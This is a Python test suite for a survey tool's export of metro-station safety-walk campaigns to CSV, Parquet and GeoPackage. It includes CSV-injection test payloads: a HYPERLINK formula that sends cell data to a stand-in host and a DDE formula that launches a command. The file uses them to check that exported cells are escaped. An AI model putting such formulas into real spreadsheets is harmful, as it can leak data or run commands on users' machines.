"""``walktool export``: every campaign in every format, Excel CSV through LibreOffice, formula escaping, typed Parquet, QGIS styles."""

from __future__ import annotations

import shutil
import sqlite3
import subprocess
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from walktool.cli import app
from walktool.export import export
from walktool.export.csv import escape_formulas
from walktool.ingest import import_files
from walktool.project import Project

WriteCsv = Callable[..., Path]
HEADER = ["Observatrice", "Station", "Zone", "Date", "Heure", "light_level", "dark_corners", "staff_visible", "Commentaire"]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', '=DDE("cmd";"/C calc";"A1")', "+1+1", "@SUM(A1:A3)", "-x", "-2+3"]  # tabs and CRs are stripped at import: see test_escape_formulas_leaves_numbers


def _rows(station: str, zone: str, date: str, answers: list[tuple[str, str, str]], comments: list[str]) -> list[list[str]]:
    return [[f"Nadia Bouchard {i}", station, zone, date, "20h00", *a, c] for i, (a, c) in enumerate(zip(answers, comments, strict=True))]


@pytest.fixture
def campaigns(project: Project, tmp_path: Path, write_csv: WriteCsv) -> Project:
    bad, good = ("0", "oui", "non"), ("3", "non", "oui")
    first = _rows("Côte-des-Neiges", "quai", "2023-11-14", [bad] * 3, HOSTILE[:3]) + _rows("Berri-UQAM", "hall", "2023-11-15", [good] * 2, ["", "propre"])
    second = _rows("Berri-UQAM", "hall", "2024-10-15", [bad] * 3, HOSTILE[3:]) + _rows("Papineau", "quai", "2024-10-14", [good] * 2, ["", ""])
    import_files(project, [write_csv(tmp_path / "a.csv", [HEADER, *first], sep=";")], campaign="2023-pilot", fmt="findings-table")
    import_files(project, [write_csv(tmp_path / "b.csv", [HEADER, *second], sep=";")], campaign="2024-followup", fmt="findings-table")
    return project


def _sibling(out: Path, suffix: str) -> Path:
    return out.with_name(f"{out.stem}-{suffix}")


@pytest.mark.parametrize("fmt", ["csv", "gpkg", "parquet"])
def test_all_campaigns_means_all(campaigns: Project, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"all.{fmt}"
    export(campaigns, fmt, out)
    if fmt == "csv":
        stations, recs, obs = pd.read_csv(_sibling(out, "stations.csv")), pd.read_csv(_sibling(out, "recommendations.csv")), pd.read_csv(out)
    elif fmt == "gpkg":
        import geopandas as gpd

        stations, recs, obs = (gpd.read_file(out, layer=n) for n in ("stations", "recommendations", "observations"))
    else:
        stations, recs = pd.read_parquet(_sibling(out, "stations.parquet")), pd.read_parquet(_sibling(out, "recommendations.parquet"))
        obs = pd.read_parquet(out)
    pairs = set(zip(stations["campaign"], stations["name"], strict=True))
    assert pairs == {("2023-pilot", "Côte-des-Neiges"), ("2023-pilot", "Berri-UQAM"), ("2024-followup", "Berri-UQAM"), ("2024-followup", "Papineau")}
    # Berri-UQAM was fine in 2023 and bad in 2024: each campaign has its own score
    berri = stations[stations["name"] == "Berri-UQAM"].set_index("campaign")["score"]
    assert berri["2023-pilot"] == 100 and berri["2024-followup"] == 0
    assert set(recs["campaign"]) == {"2023-pilot", "2024-followup"}
    assert {"Côte-des-Neiges", "Berri-UQAM"} <= set(recs["station_name"])
    assert set(obs["campaign"].astype(str)) == {"2023-pilot", "2024-followup"}
    assert len(obs) == campaigns.store.count("observations")
    # one campaign: only it, with its campaign column
    one = tmp_path / f"one.{fmt}"
    export(campaigns, fmt, one, campaign="2024-followup")
    if fmt == "csv":
        only = pd.read_csv(_sibling(one, "stations.csv"))
    elif fmt == "gpkg":
        import geopandas as gpd

        only = gpd.read_file(one, layer="stations")
    else:
        only = pd.read_parquet(_sibling(one, "stations.parquet"))
    assert set(only["campaign"]) == {"2024-followup"} and set(only["name"]) == {"Berri-UQAM", "Papineau"}


def test_formula_cells_escaped_in_csv_only(campaigns: Project, tmp_path: Path) -> None:
    out = tmp_path / "obs.csv"
    export(campaigns, "csv", out)
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    comments = set(frame["comment"]) - {""}
    assert {"'" + h for h in HOSTILE} <= comments
    numbers = pd.read_csv(out)
    text = [c for c in numbers.columns if not pd.api.types.is_numeric_dtype(numbers[c])]
    assert "comment" in text and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for col in text for c in frame[col])
    assert numbers["score"].dtype == float and (numbers["lon"] < 0).all()  # numeric columns untouched (negative numbers stay)
    raw = tmp_path / "raw.csv"
    export(campaigns, "csv", raw, raw=True)
    assert set(HOSTILE) <= set(pd.read_csv(raw, dtype=str, keep_default_na=False)["comment"])
    # Parquet and GeoPackage stay exact
    export(campaigns, "parquet", tmp_path / "obs.parquet")
    assert set(HOSTILE) <= set(pd.read_parquet(tmp_path / "obs.parquet")["comment"].dropna())
    export(campaigns, "gpkg", tmp_path / "obs.gpkg")
    import geopandas as gpd

    assert set(HOSTILE) <= set(gpd.read_file(tmp_path / "obs.gpkg", layer="observations")["comment"].dropna())


def test_escape_formulas_leaves_numbers() -> None:
    frame = pd.DataFrame({"t": ["=1+1", "-x", "ok", None, "@a", "\tx", "\rx"], "n": [-1.5, 2.0, None, 3.0, -4.0, 0, 1],
                          "o": [1, "+2", None, "x", 3, 4, 5]})
    out = escape_formulas(frame)
    assert [None if pd.isna(v) else v for v in out["t"]] == ["'=1+1", "'-x", "ok", None, "'@a", "'\tx", "'\rx"]
    assert out["n"].equals(frame["n"])
    assert [None if pd.isna(v) else v for v in out["o"]] == [1, "'+2", None, "x", 3, 4, 5]


SOFFICE = shutil.which("soffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (make office installs it)")
@pytest.mark.parametrize(("lang", "sep", "infilter"), [("fr", ";", "CSV:59,34,76,1,,3084"), ("en", ",", "CSV:44,34,76,1,,1033")])
def test_excel_csv_through_libreoffice(campaigns: Project, tmp_path: Path, runner: CliRunner, lang: str, sep: str, infilter: str) -> None:
    out = tmp_path / "excel" / "walk.csv"
    result = runner.invoke(app, ["export", "--format", "csv", "--for", "excel", "--lang", lang, "--out", str(out), "--project", str(campaigns.root)])
    assert result.exit_code == 0, result.output
    stations = _sibling(out, "stations.csv")
    data = stations.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark
    header = data[3:].decode("utf-8").splitlines()[0]
    assert header.split(sep)[:3] == ["campaign", "station_id", "name"]
    if lang == "fr":
        assert "," in data.decode("utf-8-sig").splitlines()[1].split(";")[-1]  # decimal comma in the longitude
    from openpyxl import load_workbook

    books = {}
    for csv in (out, stations):
        subprocess.run(
            [SOFFICE, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless", f"--infilter={infilter}",
             "--convert-to", "xlsx", "--outdir", str(tmp_path / "xlsx"), str(csv)],
            check=True, capture_output=True, timeout=180,
        )
        books[csv.stem] = load_workbook(tmp_path / "xlsx" / f"{csv.stem}.xlsx").active
    sheet = books["walk-stations"]
    rows = list(sheet.iter_rows(values_only=True))
    head = list(rows[0])
    assert head[:3] == ["campaign", "station_id", "name"]  # columns split right
    names = {r[head.index("name")] for r in rows[1:]}
    assert {"Côte-des-Neiges", "Berri-UQAM"} <= names  # accents intact
    for col in ("score", "lat", "lon", "observations"):
        assert all(isinstance(r[head.index(col)], int | float) for r in rows[1:]), col  # numbers are numbers
    assert all(45.4 < r[head.index("lat")] < 45.7 for r in rows[1:])
    obs = books["walk"]
    cells = [c for row in obs.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]  # no live formula
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any(t.lstrip("'").startswith("=HYPERLINK") for t in texts)


def test_parquet_types_and_files(campaigns: Project, tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = tmp_path / "walks.parquet"
    written = export(campaigns, "parquet", out)
    assert written == [out, _sibling(out, "stations.parquet"), _sibling(out, "recommendations.parquet")]

    def base(t: pa.DataType) -> pa.DataType:
        return t.value_type if pa.types.is_dictionary(t) else t

    for path in written:
        schema = pq.read_schema(path)
        assert not [f.name for f in schema if pa.types.is_null(f.type)], path  # no column of type null
    obs = pq.read_schema(out)
    assert obs.field("observed_at").type == pa.timestamp("us", tz="UTC")
    assert pa.types.is_string(base(obs.field("walk_id").type))  # all empty here, typed from the schema
    assert obs.field("score").type == pa.float64() and obs.field("is_problem").type == pa.bool_()
    assert b"geo" in (obs.metadata or {})
    import geopandas as gpd

    frame = gpd.read_parquet(out)
    assert frame.crs.to_epsg() == 4326 and frame.geometry.notna().all()
    recs = pq.read_schema(_sibling(out, "recommendations.parquet"))
    assert recs.field("due_date").type == pa.date32() and recs.field("priority").type == pa.float64()
    assert pa.types.is_string(recs.field("owner").type) and recs.field("rank").type == pa.int64()
    # the pandas path (public audience) types the same columns the same way
    public = tmp_path / "public.parquet"
    export(campaigns, "parquet", public, audience="public")
    pub = pq.read_schema(public)
    assert pub.field("observed_at").type == pa.timestamp("us", tz="UTC") and not [f for f in pub if pa.types.is_null(f.type)]


def test_gpkg_layer_styles(campaigns: Project, tmp_path: Path) -> None:
    import pyogrio

    out = tmp_path / "walks.gpkg"
    export(campaigns, "gpkg", out, lang="en")
    layers = {name for name, _ in pyogrio.list_layers(out)}
    assert {"observations", "stations", "recommendations", "layer_styles"} <= layers
    assert pyogrio.read_info(out, layer="stations")["geometry_type"] == "Point"
    with sqlite3.connect(out) as con:
        rows = con.execute("SELECT f_table_name, f_geometry_column, styleName, styleQML, styleSLD, useAsDefault FROM layer_styles ORDER BY f_table_name").fetchall()
        geom = dict(con.execute("SELECT table_name, column_name FROM gpkg_geometry_columns").fetchall())
    styles = {r[0]: r for r in rows}
    assert set(styles) == {"observations", "stations"}
    assert all(r[5] == 1 and r[1] == geom[r[0]] for r in rows)
    assert 'type="graduatedSymbol" attr="score"' in styles["stations"][3]
    assert 'type="categorizedSymbol" attr="severity"' in styles["observations"][3]
    assert 'label="critical"' in styles["observations"][3] and not any(f"${k}" in styles["observations"][3] for k in ("low", "high", "none"))
    assert "<se:PropertyName>severity" in styles["observations"][4] or "<ogc:PropertyName>severity" in styles["observations"][4]
    export(campaigns, "gpkg", out, lang="fr")
    with sqlite3.connect(out) as con:
        qml = con.execute("SELECT styleQML FROM layer_styles WHERE f_table_name = 'observations'").fetchone()[0]
    assert 'label="critique"' in qml


def test_export_cli_options(campaigns: Project, tmp_path: Path, runner: CliRunner) -> None:
    bad = runner.invoke(app, ["export", "--format", "gpkg", "--for", "excel", "--out", str(tmp_path / "x.gpkg"), "--project", str(campaigns.root)])
    assert bad.exit_code == 2


def test_columnar_parquet_matches_the_pandas_export(campaigns: Project, tmp_path: Path) -> None:
    export(campaigns, "parquet", tmp_path / "fast.parquet")  # staff, imported rules: read column-wise
    export(campaigns, "csv", tmp_path / "slow.csv", raw=True)  # through pandas
    fast = pd.read_parquet(tmp_path / "fast.parquet").set_index("obs_id")
    slow = pd.read_csv(tmp_path / "slow.csv", keep_default_na=False, na_values=[""]).set_index("obs_id")
    assert set(fast.index) == set(slow.index)
    fast = fast.loc[slow.index]
    for col in ("campaign", "station_name", "zone", "item", "answer", "severity", "location_source", "rules_hash", "protocol", "comment"):
        assert [None if pd.isna(v) else str(v) for v in fast[col]] == [None if pd.isna(v) else str(v) for v in slow[col]], col
    assert fast["score"].fillna(-1).tolist() == pytest.approx(slow["score"].fillna(-1).tolist())
    import geopandas as gpd

    points = gpd.read_parquet(tmp_path / "fast.parquet").set_index("obs_id").loc[slow.index].geometry
    assert points.y.tolist() == pytest.approx(slow["lat"].tolist()) and points.x.tolist() == pytest.approx(slow["lon"].tolist())
    stations_fast = pd.read_parquet(tmp_path / "fast-stations.parquet")
    stations_slow = pd.read_csv(tmp_path / "slow-stations.csv")
    assert stations_fast["score"].tolist() == pytest.approx(stations_slow["score"].tolist())
    recs_fast = pd.read_parquet(tmp_path / "fast-recommendations.parquet")
    assert recs_fast["rec_id"].tolist() == pd.read_csv(tmp_path / "slow-recommendations.csv")["rec_id"].tolist()


def test_parquet_without_participants_still_counts_them(campaigns: Project, tmp_path: Path) -> None:
    out = tmp_path / "anon.parquet"
    export(campaigns, "parquet", out, include_participants=False)
    assert "participant" not in pd.read_parquet(out).columns
    stations = pd.read_parquet(_sibling(out, "stations.parquet"))
    assert stations.set_index(["campaign", "name"]).loc[("2023-pilot", "Côte-des-Neiges"), "participants"] == 3
